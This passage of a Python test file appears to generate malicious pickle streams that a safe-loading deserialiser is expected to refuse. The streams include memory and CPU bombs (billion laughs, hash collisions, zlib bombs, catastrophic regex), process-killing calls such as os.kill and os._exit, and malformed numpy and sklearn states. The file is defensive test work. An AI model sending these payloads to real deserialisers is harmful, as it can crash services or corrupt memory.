        ("nested lists", "D9", lambda m: Do(lambda s: s.raw(op("EMPTY_LIST") * 50_000).raw(op("APPEND") * 49_999))),
        ("nested tuples", "D9", lambda m: Do(lambda s: s.op("EMPTY_TUPLE").raw(op("TUPLE1") * 50_000))),
        (
            "nested iterators",
            "D10",
            lambda m: Call(
                "builtins:list",
                Do(lambda s: s.push(Ref("builtins:enumerate")).let("e").op("POP").raw(b"h\0" * 50_000).push("ab").raw(b"\x85R" * 50_000)),
            ),
        ),
        ("nested marks", "D9, B3", lambda m: a().raw(op("MARK") * 100_000).push(1)),
        (
            "integers of one hash",
            "D12",
            lambda m: Do(lambda s: s.op("EMPTY_DICT").group([part for k in range(collisions) for part in (k * ((1 << 61) - 1), 1)], "SETITEMS")),
        ),
        (
            "tuples of -1 and -2",
            "D12",
            lambda m: Do(lambda s: s.op("EMPTY_SET").group([tuple(-1 - (k >> bit & 1) for bit in range(14)) for k in range(1 << 14)], "ADDITEMS")),
        ),
        ("punycode", "D13", lambda m: Call("_codecs:encode", "\u4e00\u4e01" * 20_000, "punycode")),
        ("zlib by codec", "D13, D14", lambda m: Call("_codecs:decode", deflated(bytes(1 << 20)), "zlib_codec")),
        ("zlib.decompress", "D14", lambda m: Call("zlib:decompress", deflated(bytes(1 << 20)))),
        ("lzma.decompress", "D14", lambda m: Call("lzma:decompress", b"")),
        ("nested groups of a pattern", "D15", lambda m: Call("re:_compile", "(" * 5_000, 0)),
        ("catastrophic pattern", "D15", lambda m: Call("re:fullmatch", "(a*)*b", "a" * 40)),
        ("flood of PROTO", "D16, B4", lambda m: b"\x80\x04" * flood + b"N."),
        ("flood of FRAME", "D16, B5", lambda m: b"\x80\x04" + (b"\x95" + bytes(8)) * 50_000 + b"N."),
        ("flood of PUT", "D16, B6", lambda m: b"\x80\x02N" + b"q\x00" * flood + b"."),
        ("flood of GLOBAL", "D16", lambda m: b"\x80\x02(" + b"cmath\nfloor\n" * 20_000 + b"t."),
        ("flood of REDUCE", "D16", lambda m: b"\x80\x02(" + b"cbuiltins\nlist\n)R" * 20_000 + b"t."),
        ("open of a FIFO", "D17", lambda m: Call("builtins:open", "/dev/stdin")),
        ("sleep", "D17", lambda m: Call("time:sleep", 1_000_000)),
        ("endless iterator", "D17", lambda m: Call("collections:deque", Call("itertools:count"), 1)),
        ("os._exit", "D18", lambda m: Call("os:_exit", 0)),
        ("sys.exit", "D18", lambda m: Call("sys:exit", 0)),
        ("os.abort", "D18", lambda m: Call("os:abort")),
        ("os.kill", "D18", lambda m: Call("os:kill", 0, 9)),
        ("SystemExit raised", "D18", lambda m: Call("contextlib:ExitStack.__exit__", Ref("builtins:SystemExit"), None, None, None)),
        ("KeyboardInterrupt", "D18", lambda m: Call("_thread:interrupt_main")),
        (
            "dtype with an offset beyond its size",
            "D19, E.3",
            lambda m: Call("numpy:dtype", "V8", False, True, state=(3, "|", None, ("x",), {"x": (dtype(), 1 << 30)}, 8, 1, 16)),
        ),
        (
            "dtype of objects without their flag",
            "D19, E.3",
            lambda m: Call("numpy:dtype", "O8", False, True, state=(3, "|", None, None, None, -1, -1, 0)),
        ),
        (
            "scalar of objects",
            "D19, E.3",
            lambda m: Call(
                "numpy._core.multiarray:scalar", Call("numpy:dtype", "O8", False, True, state=(3, "|", None, None, None, -1, -1, 0)), b"A" * 8
            ),
        ),
        ("as_strided", "D19, E.3", lambda m: Call("numpy.lib.stride_tricks:as_strided", Call("numpy:zeros", 1), (1 << 40,), (8,))),
        (
            "tree with children out of range",
            "D19, E.3",
            lambda m: Call("sklearn.tree._tree:Tree", 4, b"", 1, state={"max_depth": 1, "node_count": 1 << 40}),
        ),
        ("KDTree without its state", "D19, E.3", lambda m: New("sklearn.neighbors._kd_tree:KDTree")),
    ]
    for name, rules, what in rows:
        yield stream(f"bomb: {name}", rules, what, REFUSED, effect="none")
    yield stream(
        "bomb: billion laughs",
        "D11 GHSA-g53j-hmj6-fqvw",
        lambda m: Do(lambda s: laughs(s.op("EMPTY_LIST"), 40)),
        REFUSED,
        effect="none",
    )


def laughs(asm: Asm, depth: int) -> None:
    """Lists of ten times the list before: 10**depth values."""
    asm.push("ha").let("0").op("POP")
    for level in range(depth):
        asm.op("EMPTY_LIST", "MARK")
        for _ in range(10):
            asm.get(str(level))
        asm.op("APPENDS").let(str(level + 1)).op("POP")
    asm.get(str(depth)).op("APPEND")


# --- all -------------------------------------------------------------------------------------------------------


def _cases() -> Iterator[Case]:
    for kind, rows in (
        ("shell", SHELLS),
        ("evaluator", EVALUATORS),
        ("writer", WRITERS),
        ("caller", CALLERS),
        ("resolver", RESOLVERS),
        ("second load", LOADERS),
        ("dotted", DOTTED),
    ):
        for name, rules, what in rows:
            yield stream(f"{kind}: {name}", rules, what, effect="none" if name in WITHOUT_MARKER else "marker")
    for name in CONSUMERS:
        yield stream(f"consumer: {name}", "E.1", lambda m, n=name: Call(n, Call("builtins:map", MKDIR, [m])))
    yield stream("consumer: list over starmap", "E.1", lambda m: Call("builtins:list", Call("itertools:starmap", MKDIR, [(m,)])))
    yield stream("consumer: list over filter", "E.1", lambda m: Call("builtins:list", Call("builtins:filter", MKDIR, [m])))
    yield stream("consumer: list over takewhile", "E.1", lambda m: Call("builtins:list", Call("itertools:takewhile", MKDIR, [m])))
    yield stream("consumer: array.array", "E.1", lambda m: Call("array:array", "b", Call("builtins:map", MKDIR, [m])))
    for group in (forms, old_names, extensions, states, tails, frames, memos, stacks, bombs):
        yield from group()


CASES = tuple(_cases())
